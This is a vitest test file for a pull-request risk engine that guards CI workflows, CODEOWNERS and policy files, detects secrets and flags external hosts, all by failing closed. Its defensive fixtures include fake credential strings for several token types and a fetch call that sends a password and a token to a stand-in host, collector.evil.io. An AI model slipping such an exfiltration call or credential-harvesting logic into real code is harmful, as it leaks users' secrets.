import { describe, expect, it } from "vitest";
import { evaluate } from "../../src/policy/decision.js";
import { renderDecisionMarkdown, renderDecisionText } from "../../src/policy/render.js";
import { assessRisk } from "../../src/policy/risk.js";
import { GATE_CONTROL_PATHS } from "../../src/policy/preset.js";
import type { ChangedFile } from "../../src/policy/types.js";
import { codeowners, file, policy, pr, review, withAdded } from "./engine-helpers.js";

const rule = (files: ChangedFile[], p = policy()) => assessRisk({ policy: p, files, pr: pr() });
const find = (files: ChangedFile[], id: string, p = policy()) => rule(files, p).findings.find((f) => f.rule === id);

describe("invariant 2 (both paths)", () => {
  it("invariant 2 (both paths): a file renamed out of a protected folder is judged under its old path", () => {
    const moved = file("src/misc/session.ts", { status: "renamed", previous_filename: "src/auth/session.ts" });
    const f = find([moved], "security-code");
    expect(f?.level).toBe("high");
    expect(f?.paths).toEqual(["src/auth/session.ts", "src/misc/session.ts"]);
  });

  it("invariant 2 (both paths): a file renamed INTO a protected folder is judged under its new path", () => {
    const moved = file(".github/workflows/evil.yml", { status: "renamed", previous_filename: "docs/notes.yml" });
    expect(find([moved], "gate-control")?.level).toBe("critical");
  });

  it("invariant 2 (both paths): a copied file is judged under its source path too", () => {
    const copied = file("scripts/ci.yml", { status: "copied", previous_filename: ".github/workflows/ci.yml" });
    expect(find([copied], "gate-control")?.paths).toEqual([".github/workflows/ci.yml", "scripts/ci.yml"]);
  });

  it("invariant 2 (both paths): code owners of the old and the new path must both approve a renamed sensitive file", () => {
    const moved = file("src/misc/session.ts", { status: "renamed", previous_filename: "src/auth/session.ts" });
    const d = evaluate({
      policy: policy(),
      policySource: { source: "test", ref: "base" },
      codeowners: codeowners("* @maintainer\n/src/auth/ @sec-lead\n"),
      files: [moved],
      pr: pr(),
      reviews: [review("maintainer", "APPROVED")],
      teams: {},
    });
    const byPath = new Map(d.approval.requirements.flatMap((r) => r.paths.map((p) => [p, r] as const)));
    expect(byPath.get("src/auth/session.ts")?.owners).toEqual(["@sec-lead"]);
    expect(byPath.get("src/auth/session.ts")?.met).toBe(false);
    expect(byPath.get("src/misc/session.ts")?.met).toBe(true);
    expect(d.conclusion).toBe("action_required");
  });

  it("invariant 2 (both paths): an unknown file status fails closed as critical", () => {
    const { risk, findings } = rule([file("README.md", { status: "mystery" })]);
    expect(risk).toBe("critical");
    expect(findings[0]).toMatchObject({ rule: "evaluation-incomplete", level: "critical", paths: ["README.md"] });
    expect(findings[0]!.message).toContain("cannot be fully evaluated");
  });

  it("invariant 2 (both paths): a changed text file without a patch fails closed (too large to diff)", () => {
    const big = file("src/huge.ts", { patch: undefined, additions: 20000, changes: 20000 });
    const { risk, findings } = rule([big]);
    expect(risk).toBe("critical");
    expect(findings.find((f) => f.rule === "evaluation-incomplete")?.paths).toEqual(["src/huge.ts"]);
  });

  it("invariant 2 (both paths): a binary file without a patch is not unevaluable, just binary", () => {
    const { risk, findings } = rule([file("img/logo.png", { patch: undefined, additions: 0, changes: 0, binary: true })]);
    expect(findings.map((f) => f.rule)).toEqual(["binary-file"]);
    expect(risk).toBe("medium");
  });

  it("invariant 2: a missing patch fails closed whatever the preset (extends: none, no rules at all)", () => {
    const p = policy("risk:\n  extends: none\n");
    const { risk, findings } = rule([file("src/huge.ts", { patch: undefined, additions: 20000, changes: 20000 })], p);
    expect(risk).toBe("critical");
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: "evaluation-incomplete", paths: ["src/huge.ts"] });
    expect(findings[0]!.message).toContain("came without its diff");
  });

  it("invariant 2: a missing patch fails closed even when every rule that could read it is excluded", () => {
    // Only a path rule that does not cover the file, and one with a content detector restricted elsewhere.
    const p = policy("risk:\n  extends: none\n  rules:\n    - id: docs\n      paths: [\"docs/**\"]\n      level: low\n    - id: probe\n      detect: secrets\n      paths: [\"docs/**\"]\n      level: high\n");
    const { risk } = rule([file("src/huge.ts", { patch: undefined, additions: 3, deletions: 1, changes: 4 })], p);
    expect(risk).toBe("critical");
  });

  it("invariant 2: the engine does not call a file without changed lines, a binary or a removed file unevaluable", () => {
    const p = policy("risk:\n  extends: none\n");
    const quiet = [
      file("empty.txt", { status: "added", patch: undefined, additions: 0, changes: 0 }),
      file("img/logo.png", { patch: undefined, additions: 0, changes: 0, binary: true }),
      file("src/gone.ts", { status: "removed", patch: undefined, additions: 0, deletions: 40, changes: 40 }),
    ];
    expect(rule(quiet, p).risk).toBe("low");
  });

  it("invariant 2 (both paths): 3,000 listed files fail closed as critical, 2,999 do not", () => {
    const files = (n: number) => Array.from({ length: n }, (_, i) => file(`docs/page${i}.md`));
    const at = rule(files(3000));
    expect(at.risk).toBe("critical");
    expect(at.findings.find((f) => f.rule === "evaluation-incomplete")?.message).toContain("3,000");
    expect(rule(files(2999)).findings.some((f) => f.rule === "evaluation-incomplete")).toBe(false);
  });

  it("invariant 2 (both paths): a truncated listing or fewer files than the PR reports fail closed", () => {
    expect(assessRisk({ policy: policy(), files: [file("README.md")], pr: pr(), truncated: true }).risk).toBe("critical");
    const r = assessRisk({ policy: policy(), files: [file("README.md")], pr: pr({ changedFiles: 5 }) });
    expect(r.risk).toBe("critical");
    expect(r.findings[0]!.message).toContain("changes 5 files but only 1 were listed");
  });

  it("invariant 2 (both paths): a rename without its previous path fails closed", () => {
    expect(rule([file("src/x.ts", { status: "renamed" })]).risk).toBe("critical");
  });

  it("an unevaluable pull request is a failure, never success", () => {
    const d = evaluate({
      policy: policy(),
      policySource: { source: "test", ref: "base" },
      codeowners: codeowners("* @a\n"),
      files: [file("README.md", { status: "weird" })],
      pr: pr(),
      reviews: [review("a", "APPROVED")],
      teams: {},
    });
    expect(d.conclusion).toBe("failure");
    expect(d.title).toContain("cannot be fully evaluated");
  });
});

describe("invariant 6 (gate-control files are critical)", () => {
  const concrete = GATE_CONTROL_PATHS.map((g) => g.replace("**/", "sub/").replace("/**", "/x.json"));
  it.each(concrete)("invariant 6 (gate-control): %s is critical", (path) => {
    expect(find([file(path)], "gate-control")?.level).toBe("critical");
  });

  it("invariant 6 (gate-control): stays on with extends: none and a disable list", () => {
    const p = policy("risk:\n  extends: none\n  disable: [gate-control]\n");
    expect(rule([file(".github/workflows/ci.yml")], p).risk).toBe("critical");
  });

  it("invariant 6 (gate-control): matching is case-insensitive (fail closed on case-insensitive checkouts)", () => {
    expect(find([file(".GitHub/Workflows/CI.yml")], "gate-control")).toBeDefined();
  });
});

describe("invariant 1 (base-branch policy), engine part", () => {
  it("invariant 1 (base-branch policy): a PR that edits the policy file or CODEOWNERS is critical", () => {
    for (const path of [".github/agent-gate.yml", ".github/CODEOWNERS", "CODEOWNERS", "docs/CODEOWNERS"]) {
      const { risk, findings } = rule([file(path)]);
      expect(risk).toBe("critical");
      expect(findings[0]?.rule).toBe("gate-control");
    }
  });

  it("invariant 1 (base-branch policy): a CODEOWNERS edit is judged by the base CODEOWNERS the caller passes in", () => {
    // The PR's patch removes the security owner; the engine only ever sees the base version.
    const edit = { ...file(".github/CODEOWNERS"), patch: "@@ -1,2 +1,1 @@\n * @maintainer\n-/.github/ @security-lead" };
    const d = evaluate({
      policy: policy(),
      policySource: { source: ".github/agent-gate.yml", ref: "basesha" },
      codeowners: codeowners("* @maintainer\n/.github/ @security-lead\n"),
      files: [edit],
      pr: pr(),
      reviews: [review("maintainer", "APPROVED")],
      teams: {},
    });
    expect(d.approval.requirements[0]).toMatchObject({ paths: [".github/CODEOWNERS"], owners: ["@security-lead"], met: false });
    expect(d.conclusion).toBe("action_required");
    expect(d.policy).toEqual({ source: ".github/agent-gate.yml", ref: "basesha" });
  });
});

describe("secret detection", () => {
  const SECRETS: Array<[string, string]> = [
    ["an AWS access key id", `AKIA${"Q7".repeat(8)}`],
    ["a GitHub token", `ghp_${"aB3".repeat(12)}`],
    ["a GitHub token", `github_pat_11ABCDEFG0${"xY9_".repeat(10)}`],
    ["a private key", "-----BEGIN RSA PRIVATE KEY-----"],
    ["a private key", "-----BEGIN OPENSSH PRIVATE KEY-----"],
    ["a Slack token", `xoxb-${"1234567890-".repeat(2)}abcdefABCDEF`],
    ["a Stripe secret key", `sk_live_${"4eC39HqLyjWDarjtT1zdp7dc".repeat(1)}`],
    ["a high-entropy secret assignment", `Zq8vL2mN9xR4tY7wK1pB5sD3`],
  ];

  it.each(SECRETS)("finds %s, reports rule, path and line, and never echoes it", (kind, secret) => {
    const line = kind === "a high-entropy secret assignment" ? `DB_PASSWORD="${secret}"` : `const value = "${secret}";`;
    const f = withAdded("src/settings.ts", ["// config", line]);
    const d = evaluate({
      policy: policy(),
      policySource: { source: "test", ref: "base" },
      codeowners: codeowners("* @owner\n"),
      files: [f],
      pr: pr(),
      reviews: [],
      teams: {},
    });
    const finding = d.findings.find((x) => x.rule === "secret-in-diff");
    expect(finding).toMatchObject({ level: "critical", paths: ["src/settings.ts"], locations: [{ path: "src/settings.ts", line: 2 }] });
    expect(finding!.message).toContain(`${kind} at src/settings.ts:2`);
    const outputs = [JSON.stringify(d), renderDecisionMarkdown(d), renderDecisionText(d)];
    for (const out of outputs) expect(out).not.toContain(secret);
  });

  it.each([
    ['password = os.environ["DB_PASSWORD"]'],
    ['token: ${{ secrets.GITHUB_TOKEN }}'],
    ['const apiKey = process.env.API_KEY;'],
    ['password: "changeme-in-production"'],
    ['API_KEY=<your-api-key-here>'],
    ['const tokenizer = createTokenizer(options);'],
    ['e.withCredentials??!1;x.Token:r1e.optional(a)'],
  ])("does not flag %s", (line) => {
    expect(find([withAdded("src/a.ts", [line])], "secret-in-diff")).toBeUndefined();
  });

  it("ignores removed lines (deleting a secret is not adding one)", () => {
    const f = { ...file("src/a.ts"), patch: `@@ -1,2 +1,1 @@\n ok\n-const k = "AKIA${"Q7".repeat(8)}";` };
    expect(find([f], "secret-in-diff")).toBeUndefined();
  });
});

describe("external hosts", () => {
  it("names the host without user info, path or query", () => {
    const f = withAdded("src/a.ts", ['fetch("https://user:hunter2pass@collector.evil.io:8443/x?token=abc123")']);
    const hit = find([f], "external-host");
    expect(hit?.message).toContain("collector.evil.io at src/a.ts:1");
    expect(hit?.message).not.toContain("hunter2pass");
    expect(hit?.message).not.toContain("abc123");
  });
});

describe("policy rules", () => {
  it("a policy rule with paths, and one replacing a preset rule by id", () => {
    const p = policy(
      "risk:\n  rules:\n    - id: payments\n      paths: ['services/payments/**']\n      level: high\n    - id: large-change\n      when: { changedLines: { gt: 10 } }\n      level: high\n",
    );
    const r = assessRisk({ policy: p, files: [file("services/payments/charge.ts", { additions: 11, changes: 11 })], pr: pr() });
    expect(r.findings.map((f) => [f.rule, f.level])).toEqual([
      ["payments", "high"],
      ["large-change", "high"],
    ]);
    expect(p.risk.rules.filter((x) => x.id === "large-change")).toHaveLength(1);
  });

  it("disable turns a preset rule off; extends: none keeps only gate-control", () => {
    expect(find([file("package.json")], "dependencies", policy("risk:\n  disable: [dependencies]\n"))).toBeUndefined();
    const none = policy("risk:\n  extends: none\n");
    expect(none.risk.rules.map((r) => r.id)).toEqual(["gate-control"]);
    expect(rule([file("package.json"), file(".env")], none).risk).toBe("low");
  });

  it("excludePaths and status conditions", () => {
    const p = policy(
      "risk:\n  extends: none\n  rules:\n    - id: no-vendor-deletes\n      paths: ['vendor/**']\n      excludePaths: ['vendor/README.md']\n      when: { status: [removed] }\n      level: high\n",
    );
    const del = (n: string) => file(n, { status: "removed", additions: 0, deletions: 1, changes: 1, patch: "@@ -1 +0,0 @@\n-x" });
    expect(rule([del("vendor/lib.js")], p).risk).toBe("high");
    expect(rule([del("vendor/README.md")], p).risk).toBe("low");
    expect(rule([file("vendor/lib.js")], p).risk).toBe("low");
  });

  it("findings are ordered most severe first and the risk is the highest", () => {
    const r = rule([file("README.md", { status: "removed", additions: 0, deletions: 1, changes: 1 }), file("Dockerfile"), file(".github/workflows/a.yml")]);
    expect(r.findings.map((f) => f.level)).toEqual(["critical", "high", "medium"]);
    expect(r.risk).toBe("critical");
  });

  it("no findings is low", () => {
    expect(rule([file("src/app.ts")])).toEqual({ risk: "low", findings: [] });
  });
});
